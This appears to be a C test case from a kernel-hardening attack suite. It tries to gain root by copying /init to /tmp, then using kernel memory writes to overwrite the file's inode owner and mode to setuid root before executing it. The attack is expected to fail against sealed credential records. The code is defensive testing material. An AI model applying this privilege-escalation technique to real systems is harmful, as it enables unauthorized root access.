// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "set_user_bit", "LOST",
       "The program turns a file of its own into one of root with the set-user-id bit, "
       "and executes it.",
       "Who may do what is read from sealed records, and each record says whose it is. "
       "A file's mode and owner are sealed; the inode holds copies for show.",
       "What it executes is root.");

static bool control(void)
{
	return is_ordinary();
}

static bool fire(void)
{
	static const char *const arguments[] = { "other", NULL }, *const environment[] = { NULL };
	const long from = call3(__NR_open, (long)"/init", O_RDONLY, 0);
	const long to = call3(__NR_open, (long)"/tmp/mine", O_CREAT | O_WRONLY, 0755);
	const uint64_t inode = peek(file_struct(own_task(), (int)to) + member("file.inode"));
	long child;

	call4(__NR_sendfile, to, from, 0, 1 << 20);
	call1(__NR_close, to);
	poke32(inode + member("inode.uid"), 0);
	poke32(inode + member("inode.mode"), 0104755);
	child = fork_program();
	if (child == 0) {
		call3(__NR_execve, (long)"/tmp/mine", (long)arguments, (long)environment);
		leave(1);
	}
	return wait_program(child) >> 8 == 77;
}

static void victim(void)
{
	victim_waits();
}
